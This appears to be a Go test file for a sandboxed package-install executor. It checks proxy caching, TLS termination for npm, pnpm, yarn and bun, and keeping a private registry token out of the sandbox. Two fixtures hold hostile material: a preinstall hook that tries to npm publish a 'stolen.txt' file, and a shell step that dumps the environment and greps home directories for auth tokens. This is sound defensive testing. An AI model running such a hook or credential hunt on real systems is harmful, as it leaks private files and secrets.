package local

import (
	"context"
	"crypto/x509"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gilf-review/gilf/executors"
	"github.com/gilf-review/gilf/executors/local/egress"
	"github.com/gilf-review/gilf/internal/registrytest"
	"github.com/gilf-review/gilf/toolchain"
	"github.com/gilf-review/gilf/validation"
)

// Two installs of the same tree through two executors sharing one
// verifying cache (two runs, two workers' proxies): the second takes
// every tarball from the cache, and each step's record counts it.
func TestInstallSecondRunFromCache(t *testing.T) {
	r, rule, cache := registryAndCache(t)
	var recs []*validation.Egress
	for i := range 2 {
		e := newExec(t, Options{Egress: EgressOptions{AllowHosts: []egress.Rule{rule}, Cache: cache}})
		res := runPlan(t, e, registryRepo(t, r.URL, nil),
			validation.Step{Name: validation.StepInstall, Argv: validation.InstallArgv(validation.NPM, false), Network: validation.NetworkRegistry, Timeout: 3 * time.Minute},
			validation.Step{Name: validation.StepTest, Argv: validation.RunArgv(validation.NPM, "test"), Network: validation.NetworkNone, Timeout: time.Minute},
		)
		wantStatus(t, res.Steps[0], validation.StatusPassed)
		wantStatus(t, res.Steps[1], validation.StatusPassed)
		if res.Steps[0].Egress == nil || res.Steps[0].Egress.Cache == nil {
			t.Fatalf("run %d: no cache record: %+v", i, res.Steps[0].Egress)
		}
		recs = append(recs, res.Steps[0].Egress)
	}
	first, second := recs[0].Cache, recs[1].Cache
	if first.Misses == 0 || first.Hits != 0 {
		t.Errorf("first run %+v: want misses only", first)
	}
	if second.Misses != 0 || second.Hits < first.Misses || second.BytesServed < 100<<10 {
		t.Errorf("second run %+v: want every request served from the cache (first run %+v)", second, first)
	}
	if !strings.Contains(recs[1].Summary(), "cache") {
		t.Errorf("summary %q names no cache", recs[1].Summary())
	}
}

// tlsRegistry fronts Verdaccio with TLS on loopback, as registry.example.com
// would be (the test's resolver and dialer route that name there), and
// records the methods it saw.
type tlsRegistry struct {
	url   string // https://example.com/
	rule  egress.Rule
	roots *x509.CertPool
	local string // its loopback address

	mu      sync.Mutex
	methods []string
}

func startTLSRegistry(t *testing.T, upstream string) *tlsRegistry {
	t.Helper()
	u, err := url.Parse(upstream)
	if err != nil {
		t.Fatal(err)
	}
	tr := &tlsRegistry{}
	rp := httputil.NewSingleHostReverseProxy(u)
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		tr.mu.Lock()
		tr.methods = append(tr.methods, req.Method)
		tr.mu.Unlock()
		rp.ServeHTTP(w, req)
	}))
	srv.EnableHTTP2 = true
	srv.StartTLS()
	t.Cleanup(srv.Close)
	tr.roots = x509.NewCertPool()
	tr.roots.AddCert(srv.Certificate())
	tr.local = srv.Listener.Addr().String()
	tr.url = "https://example.com/" // httptest's certificate names example.com
	if tr.rule, err = egress.RuleFromURL(tr.url); err != nil {
		t.Fatal(err)
	}
	return tr
}

func (tr *tlsRegistry) seen() []string {
	tr.mu.Lock()
	defer tr.mu.Unlock()
	return append([]string(nil), tr.methods...)
}

// route resolves example.com to a public address and dials that address
// to the TLS front; loopback addresses are dialed as they are.
func (tr *tlsRegistry) route(opts *EgressOptions) {
	public := netip.MustParseAddr("93.184.216.34")
	opts.Resolve = func(ctx context.Context, host string) ([]netip.Addr, error) {
		if host == "example.com" {
			return []netip.Addr{public}, nil
		}
		return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
	}
	opts.Dial = func(ctx context.Context, network, addr string) (net.Conn, error) {
		var d net.Dialer
		ap, err := netip.ParseAddrPort(addr)
		switch {
		case err != nil:
			return nil, err
		case ap.Addr() == public:
			return d.DialContext(ctx, network, tr.local)
		case ap.Addr().IsLoopback():
			return d.DialContext(ctx, network, addr)
		}
		return nil, fmt.Errorf("test dialer: %s is off the host", addr)
	}
	opts.RootCAs = tr.roots
}

// terminatingSetup is the package's Verdaccio behind a TLS front reached
// as example.com, and the egress options of a proxy that terminates its
// TLS with a fresh worker CA (Verdaccio's own tarball URLs allowed too).
func terminatingSetup(t *testing.T) (*tlsRegistry, EgressOptions) {
	t.Helper()
	r := registry(t)
	plain, err := egress.RuleFromURL(r.URL)
	if err != nil {
		t.Fatal(err)
	}
	front := startTLSRegistry(t, r.URL)
	ca, err := egress.LoadOrCreateCA(filepath.Join(t.TempDir(), "ca"))
	if err != nil {
		t.Fatal(err)
	}
	opts := EgressOptions{AllowHosts: []egress.Rule{front.rule, plain}, CA: ca}
	front.route(&opts)
	return front, opts
}

// The install step reaches a TLS registry through the terminating proxy:
// npm inside the sandbox trusts the worker's CA through the bundle gilf
// writes, the install passes, and a publish from a preinstall script is
// refused inside TLS (recorded), the registry seeing only GETs.
func TestInstallThroughTerminatingProxy(t *testing.T) {
	front, opts := terminatingSetup(t)
	e := newExec(t, Options{Egress: opts})
	dir := registryRepo(t, front.url, map[string]string{
		"exfil/package.json": `{"name":"exfil","version":"1.0.0"}`,
		"exfil/stolen.txt":   "what the install step could read\n",
	})
	pj, err := os.ReadFile(filepath.Join(dir, "package.json"))
	if err != nil {
		t.Fatal(err)
	}
	// The pull request's own preinstall publishes whatever it can read.
	pj = []byte(strings.Replace(string(pj), `"scripts":{`,
		`"scripts":{"preinstall":"cd exfil && npm publish --registry `+front.url+` --//example.com/:_authToken=x --fetch-retries=0 --provenance=false > $TMPDIR/publish.log 2>&1; echo published=$?; grep -m1 'npm error' $TMPDIR/publish.log",`, 1))
	if err := os.WriteFile(filepath.Join(dir, "package.json"), pj, 0o644); err != nil {
		t.Fatal(err)
	}
	res := runPlan(t, e, dir,
		validation.Step{Name: validation.StepInstall, Argv: validation.InstallArgv(validation.NPM, false), Network: validation.NetworkRegistry, Timeout: 3 * time.Minute},
		validation.Step{Name: validation.StepTest, Argv: validation.RunArgv(validation.NPM, "test"), Network: validation.NetworkNone, Timeout: time.Minute},
	)
	in := res.Steps[0]
	wantStatus(t, in, validation.StatusPassed)
	wantStatus(t, res.Steps[1], validation.StatusPassed)
	if strings.Contains(in.Output.Head, "published=0") {
		t.Errorf("npm publish succeeded:\n%s", in.Output.Head)
	}
	for _, m := range front.seen() {
		if m != http.MethodGet && m != http.MethodHead {
			t.Errorf("the registry received %s", m)
		}
	}
	eg := in.Egress
	var refused, reached bool
	for _, d := range eg.Denied {
		refused = refused || (d.Host == "example.com" && d.Reason == string(egress.ReasonMethod))
	}
	for _, a := range eg.Allowed {
		reached = reached || (a.Host == "example.com" && a.Port == 443 && !a.Tunnel && a.BytesIn > 0)
	}
	if !refused || !reached {
		t.Errorf("egress record %+v: want example.com reached through terminated TLS and the publish refused; output:\n%s", eg, in.Output.Head)
	}
}

// pnpm, yarn classic, yarn berry and bun install through the terminating
// proxy too: each trusts the worker's CA through the bundle gilf names
// (yarn berry by YARN_HTTPS_CA_FILE_PATH, the others by the variables of
// Node, npm and yarn classic), reaches the registry through terminated
// TLS, and a second run takes what it fetched from the shared cache.
// pnpm 10, Yarn berry and bun are prepared from the registry as a worker
// prepares them; Verdaccio's tarball URLs are its own plain http:// ones,
// which yarn berry must be told it may use. pnpm and bun hard-link each
// package from their store, as they do bare (it is on node_modules'
// mount).
func TestInstallThroughTerminatingProxyPM(t *testing.T) {
	front, base := terminatingSetup(t)
	tools, err := toolchain.New(toolchain.Options{Dir: filepath.Join(t.TempDir(), "toolchains"), Registry: registry(t).URL})
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		pm    validation.PackageManager
		tool  validation.ToolRequest // none: the worker's own
		files map[string]string
	}{
		{pm: validation.PNPM, tool: validation.ToolRequest{Manager: validation.PNPM, Version: pnpmWarmVersion}},
		{pm: validation.Yarn},
		{validation.YarnBerry, validation.ToolRequest{Manager: validation.YarnBerry, Version: "4.4.1"}, map[string]string{
			".yarnrc.yml": "npmRegistryServer: \"" + strings.TrimSuffix(front.url, "/") + "\"\nnodeLinker: node-modules\nenableTelemetry: false\nenableImmutableInstalls: false\nunsafeHttpWhitelist: [\"127.0.0.1\"]\n",
		}},
		{validation.Bun, validation.ToolRequest{Manager: validation.Bun, Version: "1.2.20"}, map[string]string{
			"bunfig.toml": "[install]\nregistry = \"" + front.url + "\"\n",
		}},
	} {
		t.Run(string(tc.pm), func(t *testing.T) {
			cache, err := egress.OpenCache(egress.CacheConfig{Dir: filepath.Join(t.TempDir(), "cache")})
			if err != nil {
				t.Fatal(err)
			}
			opts := base
			opts.Cache = cache
			var recs []*validation.Egress
			for i := range 2 {
				e := newToolExec(t, Options{Egress: opts, Tools: tools})
				plan := validation.Plan{PackageManager: validation.NPM, Steps: []validation.Step{
					{Name: validation.StepInstall, Argv: validation.InstallArgv(tc.pm, false), Network: validation.NetworkRegistry, Timeout: 3 * time.Minute},
					{Name: validation.StepTest, Argv: validation.RunArgv(tc.pm, "test"), Network: validation.NetworkNone, Timeout: time.Minute},
					shStep("links", "stat -L -c 'links %h' node_modules/express/package.json", time.Minute),
				}}
				if tc.tool.Manager != "" {
					plan.PackageManager, plan.Tool = tc.pm, tc.tool
				}
				ctx, cancel := context.WithTimeout(context.Background(), 4*time.Minute)
				defer cancel()
				res, err := e.Run(ctx, executors.Request{Dir: registryRepo(t, front.url, tc.files), Plan: plan})
				if err != nil {
					t.Fatalf("run %d: %v", i, err)
				}
				wantStatus(t, res.Steps[0], validation.StatusPassed)
				wantStatus(t, res.Steps[1], validation.StatusPassed)
				if !strings.Contains(res.Steps[1].Output.Head, "dependency loaded") {
					t.Errorf("run %d: test output %q", i, res.Steps[1].Output.Head)
				}
				// pnpm and bun keep their store on node_modules' mount
				// and hard-link from it, as they do bare.
				if links := strings.TrimSpace(res.Steps[2].Output.Head); (tc.pm == validation.PNPM || tc.pm == validation.Bun) && links != "links 2" {
					t.Errorf("run %d: %s's express/package.json: %q, want hard-linked from its store", i, tc.pm, links)
				}
				eg := res.Steps[0].Egress
				var reached bool
				for _, a := range eg.Allowed {
					reached = reached || (a.Host == "example.com" && a.Port == 443 && !a.Tunnel && a.BytesIn > 0)
				}
				if !reached || len(eg.Denied) != 0 {
					t.Errorf("run %d: egress %+v: want example.com reached through terminated TLS, nothing denied", i, eg)
				}
				recs = append(recs, eg)
			}
			if c := recs[1].Cache; c == nil || c.Hits == 0 || c.Misses != 0 {
				t.Errorf("second run's cache %+v (first %+v): want hits only", c, recs[0].Cache)
			}
		})
	}
}

// A private registry (Verdaccio that serves nothing without its token):
// the proxy adds the token, the install passes, and the token is nowhere
// the sandbox can see (environment, its files, the output). Without the
// proxy's credentials the same install fails.
func TestPrivateRegistryTokenStaysOutOfTheSandbox(t *testing.T) {
	dir, err := os.MkdirTemp("", "gilf-preg-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	r, err := registrytest.StartPrivate(ctx, dir, io.Discard)
	if err != nil {
		t.Fatalf("start the private registry: %v", err)
	}
	t.Cleanup(func() { r.Close() })
	rule, err := egress.RuleFromURL(r.URL)
	if err != nil {
		t.Fatal(err)
	}
	install := validation.Step{Name: validation.StepInstall, Argv: append(validation.InstallArgv(validation.NPM, false), "--fetch-retries=0"), Network: validation.NetworkRegistry, Timeout: 3 * time.Minute}
	look := shStep("test", `env; cat "$HOME/.npmrc" .npmrc 2>/dev/null; grep -rIl -e _authToken -e Authorization -e Bearer "$HOME" "$TMPDIR" . --exclude-dir=node_modules 2>/dev/null; echo looked`, time.Minute)

	bare := newExec(t, Options{Egress: EgressOptions{AllowHosts: []egress.Rule{rule}}})
	res := runPlan(t, bare, registryRepo(t, r.URL, nil), install, look)
	wantStatus(t, res.Steps[0], validation.StatusFailed)

	creds := map[string]string{strings.TrimSuffix(strings.TrimPrefix(r.URL, "http://"), "/"): "Bearer " + r.Token}
	e := newExec(t, Options{Egress: EgressOptions{AllowHosts: []egress.Rule{rule}, Credentials: creds}})
	res = runPlan(t, e, registryRepo(t, r.URL, nil), install, look)
	wantStatus(t, res.Steps[0], validation.StatusPassed)
	wantStatus(t, res.Steps[1], validation.StatusPassed)
	if !strings.Contains(res.Steps[1].Output.Head, "looked") || !strings.Contains(res.Steps[1].Output.Head, "HOME=") {
		t.Fatalf("the look around did not run: %q", res.Steps[1].Output.Head)
	}
	for _, st := range res.Steps {
		for _, part := range []string{st.Output.Head, st.Output.Tail} {
			if strings.Contains(part, r.Token) || strings.Contains(part, r.Token[:16]) {
				t.Errorf("step %s saw the registry's token:\n%s", st.Name, part)
			}
		}
	}
	if strings.Contains(res.Steps[1].Output.Head, "Bearer") {
		t.Errorf("a file in the sandbox names a credential:\n%s", res.Steps[1].Output.Head)
	}
}
